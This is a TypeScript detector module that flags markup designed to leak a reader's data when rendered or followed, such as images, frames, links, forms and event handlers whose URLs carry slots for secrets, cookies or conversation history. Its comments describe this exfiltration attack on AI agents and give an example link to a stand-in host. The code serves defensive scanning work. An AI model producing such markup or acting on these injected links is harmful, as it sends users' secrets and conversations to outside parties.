// Render-to-exfiltrate: markup that makes the reader's client fetch a URL the moment it is shown
// (a markdown or HTML image, a frame) or that it is told to open (a link), where the URL's query
// has a slot for the reader's data ("?d=PASTE_SECRETS_HERE", "?q={conversation}"): rendering or
// following it hands that data to whoever runs the host. Also a frame hidden from the reader that
// loads another site's page. Judged on the URL's structure, not on host names: real pages embed
// images with query strings (resizers, badges, avatars, pixels) and frames (video embeds) all the
// time; what they lack is a value that is a placeholder for data the reader holds.
import { inlineImageExample } from "./image-example.ts";
import type { Family, Pattern } from "./pattern-set.ts";
import { reportedAttackOutput } from "./described-behaviour.ts";

/** Families an order beside a weak render signal (a link with a generic data slot) may carry. */
const ORDER_PARTNERS: readonly Family[] = ["order", "exfil", "credential", "override", "addressed", "pseudo-tag", "template", "directive", "concealment", "role", "output"];

// What a slot names, by the words of its placeholder (split on _ - . space and case changes).
// Strong: data an agent holds that must not leave (secrets, the conversation, private records).
const STRONG = /^(?:secrets?|messages|clipboard|historique|historial|historico|histórico|verlauf|cronologia|chronologie|история|историю|历史|歷史|履歴|tokens?|keys?|apikeys?|passwords?|passwd|passphrase|credentials?|creds?|cookies?|sessions?|env|environment|conversations?|chats?|history|transcripts?|memory|memories|prompts?|pii|sensitive|private|personal|confidential|ssn|datos|secretos?|contrase(?:ñ|n)as?|claves?|llaves?|senhas?|segredos?|chaves?|dados|jetons?|cl(?:é|e)s|schl(?:ü|u)ssel|geheim\p{L}*|passw(?:ö|o)rter|daten|donn(?:é|e)es|mots?depasse|секрет\p{L}*|парол\p{L}*|данн\p{L}*|токен\p{L}*|ключ\p{L}*|密码|密碼|数据|數據|秘密|令牌|密钥|機密|パスワード|トークン)$/iu;
// Generic: some data to be filled in (weak alone: needs an order beside it).
const GENERIC = /^(?:data|info|information|content|contents|summary|files?|documents?|context|notes|details|results?|output|payload|dump|loot|exfil)$/i;
/** A possessive a placeholder may open with ("YOUR_API_KEY", "<your-token>"). */
const DEVELOPER = /^(?:your|my|the|tu|tus|votre|vos|ihr|ihre|dein|deine|seu|sua)$/i;

type SlotKind = "strong" | "generic";

/** A query value that is a placeholder for data rather than data: SOME_DATA, {x}, [x], <x>, ${x}, {{x}}. */
export function placeholderWords(raw: string): string[] | null {
  let v: string;
  try {
    v = decodeURIComponent(raw.replace(/\+/g, " "));
  } catch {
    v = raw;
  }
  v = v.trim();
  // __USER_EMAIL__: a placeholder fenced by underscores, as some template tools write them.
  const dunder = /^_{2}([\p{L}\d][\p{L}\d_]{0,60}?)_{2}$/u.exec(v);
  if (v.length < 2 || v.length > 80) return null;
  const wrapped = /^(?:\$?\{\{?\s{0,3}([^{}]{1,60}?)\s{0,3}\}?\}|\[\s{0,3}([^\[\]]{1,60}?)\s{0,3}\]|<\s{0,3}([^<>]{1,60}?)\s{0,3}>|\$([A-Za-z_][\w]{1,60})|%([A-Za-z_][\w]{1,60})%)$/.exec(v);
  let inner: string;
  if (dunder) inner = dunder[1]!;
  else if (wrapped) inner = wrapped.slice(1).find((g) => g !== undefined)!;
  // Bare: capitals (any script with case) joined by _ or -, as placeholders are written.
  else if (/^[\p{Lu}\d]+(?:[_-][\p{Lu}\d]+)*$/u.test(v) && /\p{Lu}{3}/u.test(v)) inner = v;
  // Scripts without case: a placeholder is the bare word itself (密码, データ) — judged by the words.
  else if (/^[\p{Lo}_\s-]{2,12}$/u.test(v)) inner = v;
  else if (v.length < 3) return null;
  else return null;
  const words = inner
    .replace(/([a-z])([A-Z])/g, "$1 $2")
    .split(/[\s_.\-:|/]+/)
    .filter((w) => w.length > 0);
  return words.length > 0 && words.length <= 8 ? words : null;
}

const squash = (s: string) => s.toLowerCase().replace(/[^\p{L}\p{N}]/gu, "");

/**
 * A placeholder that names the parameter's own value (key=YOUR_API_KEY, access_token=ACCESS_TOKEN,
 * data={{data}}): the API's documentation telling the developer what to put there, not a slot
 * for someone else's data.
 */
export function ownParameter(name: string, words: readonly string[]): boolean {
  const n = squash(name);
  const ph = squash((DEVELOPER.test(words[0]!) ? words.slice(1) : words).join(""));
  if (n.length === 0 || ph.length === 0) return false;
  return ph === n || (n.length >= 3 && ph.length - n.length <= 6 && (ph.endsWith(n) || ph.startsWith(n))) || (n.endsWith(ph) && ph.length >= 3);
}

/** A placeholder ending in an identifier word names an id or a setting (SESSION_ID, USER_NAME), not data. */
const IDENTIFIER = /^(?:ids?|uuid|guid|hash|num|number|count|name|type|url|uri|path|size|lang|locale|date|time|version|ver|index|idx|code|slug|ref)$/i;

/** The reader's own words: "last_user_message", "previous_prompt" (a bare "message" is a template's flash text). */
function QUALIFIED_INPUT(words: readonly string[]): boolean {
  return words.some((w) => /^(?:message|input|question|query|reply|answer)$/i.test(w)) && words.some((w) => /^(?:user|users|last|previous|prior|recent|my)$/i.test(w));
}

/** The reader's personal details: a slot for them counts only when the reader is told to fill it. */
const PERSONAL = /^(?:e-?mails?|phone|mobile|address|username|profile|birthday|birthdate|dob|fullname|surname|correo|telefono|teléfono|adresse|courriel|telefon)$/i;

/**
 * An order beside the markup telling the reader to fill its slots from the reader's own data
 * ("populate the fields from the user's profile"): then even email=USER_EMAIL, which would
 * otherwise read as the parameter's own documented value, is a slot for someone's data.
 */
const FILL_ORDER = /\b(?:fill(?:ed)?(?:\s{1,8}in)?|populate|substitut\w*|replac\w*|insert|expand|evaluate)\b[^\n]{0,120}?\b(?:(?:the\s{1,8})?user'?s|(?:their|the\s{1,8}reader'?s)\s{1,8}\w+|profile|memory|conversation|chat\s{1,8}history|session|environment|clipboard)\b/i;

/** The strongest data slot among a URL's query values, or null. */
export function dataSlot(url: string, ordered = false): SlotKind | null {
  const q = url.indexOf("?");
  if (q < 0) return null;
  let best: SlotKind | null = null;
  for (const pair of url.slice(q + 1).split(/[&;#]/).slice(0, 40)) {
    const eq = pair.indexOf("=");
    if (eq <= 0) continue;
    const kind = slotOf(pair.slice(0, eq), pair.slice(eq + 1), ordered);
    if (kind === "strong") return kind;
    if (kind) best = kind;
  }
  return best;
}

/** Anti-forgery and flow values a form or link carries for its own site, not the reader's data. */
const FLOW = /^(?:csrf|xsrf|csrfmiddlewaretoken|authenticity|nonce|state|captcha|recaptcha|verification)$/i;

/** What a field / parameter named `name` with value `raw` is a slot for, if a placeholder. */
function slotOf(name: string, raw: string, ordered = false): SlotKind | null {
  const words = placeholderWords(raw);
  if (ordered && words && words.some((w) => PERSONAL.test(w) || STRONG.test(w)) && !words.some((w) => FLOW.test(w))) return "strong";
  if (!words || ownParameter(name, words) || IDENTIFIER.test(words[words.length - 1]!) || words.some((w) => FLOW.test(w)) || FLOW.test(name)) return null;
  if (words.some((w) => STRONG.test(w)) || QUALIFIED_INPUT(words)) return "strong";
  if (words.some((w) => GENERIC.test(w))) return "generic";
  return null;
}

/** What a text tells the reader to put into a URL: the document, its summary or contents, the thread (en, es, pt, fr, de, it). */
const CONTENT_NOUN = /(?<![\p{L}])(?:summar(?:y|ies)|contents?|minutes|notes|documents?|e-?mails?|mail|thread|reports?|findings|results|data|details|body|files?|resumen|contenido|acta|notas|documento|correo|hilo|informe|datos|detalles|resumo|conteúdo|ata|relatório|dados|resumé|résumé|contenu|compte\s{1,3}rendu|procès-verbal|courriel|rapport|données|détails|Zusammenfassung|Inhalt|Protokoll|Notizen|Dokument|Bericht|Daten|riassunto|sintesi|contenuto|verbale|note|rapporto|dati|dettagli)(?![\p{L}])/iu;

/**
 * "[see details](https://h.example/r?c=) putting after c= the full summary of these minutes": a query value
 * left empty, and the words around the link tell the reader to fill that parameter (named again with its
 * "=") with this text's contents. Strong when what goes in is a secret or the conversation, else generic.
 */
function filledSlot(url: string, t: string, s: number, e: number): SlotKind | null {
  const q = url.indexOf("?");
  if (q < 0) return null;
  const open = url.slice(q + 1).split(/[&;]/).filter((p) => /^[\w.-]{1,30}=$/.test(p)).map((p) => p.slice(0, -1));
  if (open.length === 0) return null;
  const para = (x: string) => x.split(/\n[ \t]*\n/);
  const around = `${para(t.slice(Math.max(0, s - 240), s)).pop()!} ${para(t.slice(e, e + 240))[0]!}`;
  const named = open.find((p) => new RegExp(`(?<![\\w/?&.=-])${p.replace(/[.]/g, "\\.")}\\s{0,2}=(?![\\w%{$<\\[])`).test(around));
  if (named === undefined || !CONTENT_NOUN.test(around)) return null;
  return around.split(/[^\p{L}\p{N}]+/u).some((w) => STRONG.test(w)) ? "strong" : "generic";
}

/** A URL, with any <placeholder in words> its query holds ("?d=<base64 of the results>"). */
const URL_RE = String.raw`https?:\/\/(?:\{\{[^{}\n"'<>]{1,80}\}\}|<[^<>\n"']{1,80}>|[^\s"'<>)]){1,2000}`;
/** The same in an attribute, where ")" is part of the URL. */
const URL_ATTR = String.raw`https?:\/\/(?:\{\{[^{}\n"'<>]{1,80}\}\}|[^\s"'<>]){1,2000}`;

/** Positions whose URL the client loads on its own as the page renders (tags, CSS, a meta refresh). */
const AUTO_LOAD = /^(?:!|<\s{0,2}(?:img|image|iframe|frame|embed|object|source|video|audio|input|script|track|meta)\b|url\(|@import)/i;
function urlOf(match: string): string {
  const i = Math.max(match.toLowerCase().lastIndexOf("http://"), match.toLowerCase().lastIndexOf("https://"));
  return i < 0 ? "" : match.slice(i);
}

/**
 * Where a page names a URL for the reader's client: a markdown image / link or reference definition,
 * an HTML element's URL attribute (srcset and poster included), CSS url() / @import, a meta refresh.
 */
const SINK = new RegExp(
  [
    String.raw`!?\[[^\]\n]{0,200}\]\(\s{0,3}<?${URL_RE}`,
    String.raw`^[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]{0,8}<?${URL_RE}`,
    String.raw`<\s{0,2}(?:img|image|iframe|frame|embed|object|source|video|audio|input|script|track|a|area|link|form)\b[^<>]{0,600}?\b(?:src|srcset|href|data|poster|action|xlink:href)\s{0,3}=\s{0,3}["']?${URL_ATTR}`,
    String.raw`<\s{0,2}meta\b[^<>]{0,300}?\bcontent\s{0,3}=\s{0,3}["']?\s{0,3}\d{1,5}\s{0,3}[;,]\s{0,3}url\s{0,3}=\s{0,3}["']?${URL_ATTR}`,
    String.raw`(?:url\(\s{0,3}|@import\s{1,3})["']?${URL_RE}`,
  ].join("|"),
  "gim",
);

/** Hidden form fields that carry a slot (value="{{env.SECRET}}"): posting the form sends it. */
function formSlot(t: string, from: number): SlotKind | null {
  const end = t.indexOf("</form", from);
  const body = t.slice(from, end < 0 ? Math.min(t.length, from + 3000) : Math.min(end, from + 3000));
  let best: SlotKind | null = null;
  for (const [tag] of body.matchAll(/<\s{0,2}(?:input|textarea|button)\b[^<>]{0,400}>/gi)) {
    const name = /\bname\s{0,3}=\s{0,3}["']?([\w.\-[\]]{1,60})/i.exec(tag!)?.[1] ?? "";
    const value = /\bvalue\s{0,3}=\s{0,3}(?:"([^"]{1,120})"|'([^']{1,120})'|([^\s>]{1,120}))/i.exec(tag!);
    const v = value ? (value[1] ?? value[2] ?? value[3])! : "";
    const kind = v ? slotOf(name, v) : null;
    if (kind === "strong") return kind;
    if (kind) best = kind;
  }
  return best;
}

/** Event-handler script that reads the reader's stored data and sends it to a URL. */
const BEACON_SINK = /\b(?:new\s{1,3}Image|fetch\s{0,3}\(|sendBeacon|XMLHttpRequest|location(?:\.href)?\s{0,3}=|\.src\s{0,3}=|window\.open)/;
// Read, not written: setting a consent cookie or a theme in localStorage sends nothing.
const BEACON_DATA = /\bdocument\.cookie\b(?!\s{0,3}=(?!=))|\b(?:localStorage|sessionStorage)\b(?:\s{0,3}\[|\.(?!setItem|removeItem|clear)\w+\b(?!\s{0,3}=(?!=))|\s{0,3}\))|\bnavigator\.clipboard\.read|\bindexedDB\.open/;

export const RENDER_PATTERNS: readonly Pattern[] = [
  {
    id: "exfil.render-slot", family: "exfil", weight: 0.6, codeDamp: 0.3,
    description: "Markup that sends the reader's data away when rendered or followed: an image, frame, CSS background, redirect, form or link whose URL has a slot for secrets or data",
    re: SINK,
    anchors: ["](", "]:", "src", "href", "<object", "action", "url(", "@import", "refresh", "poster"], also: ["?", "<form"], before: 700, after: 2100, partners: ORDER_PARTNERS,
    judge: (m, t, s) => {
      if (inlineImageExample(m, t, s)) return 0;
      const url = urlOf(m);
      let slot = url ? dataSlot(url) : null;
      if (slot === null && url && FILL_ORDER.test(t.slice(Math.max(0, s - 300), Math.min(t.length, s + m.length + 400)))) slot = dataSlot(url, true);
      const form = /^<\s{0,2}form\b/i.test(m);
      if (slot === null && form) slot = formSlot(t, s + m.length);
      if (slot === null && url && !form) slot = filledSlot(url, t, s, s + m.length);
      if (slot === null) return 0;
      // A reference definition loads on render when an image uses it (![x][1]).
      const auto = AUTO_LOAD.test(m) || form || (/^[ \t]{0,3}\[/.test(m) && /!\[[^\]\n]{0,200}\]\[/.test(t));
      // Loaded on render: any slot; a link must be followed: one naming secrets, or an order beside it.
      const told = reportedAttackOutput(t, s) ? 0.2 : 1;
      if (auto) return told;
      return (slot === "strong" ? 0.85 : 0.5) * told;
    },
  },
  {
    id: "exfil.render-script-beacon", family: "exfil", weight: 0.6, codeDamp: 0.3,
    description: "An inline event handler or javascript: URL that sends the reader's cookies or stored tokens to a URL",
    re: /\b(?:on[a-z]{4,20}\s{0,3}=\s{0,3}\\{0,2}["']?|javascript:)[^"<>]{0,600}/gi,
    anchors: ["onerror", "onload", "onmouse", "onfocus", "onclick", "javascript:"], also: ["cookie", "localstorage", "sessionstorage", "clipboard", "indexeddb"], before: 4, after: 700,
    judge: (m) => (BEACON_DATA.test(m) && BEACON_SINK.test(m) && /https?:\/\/|["'`]\/\/[\w-]/.test(m) ? 1 : 0),
  },
];
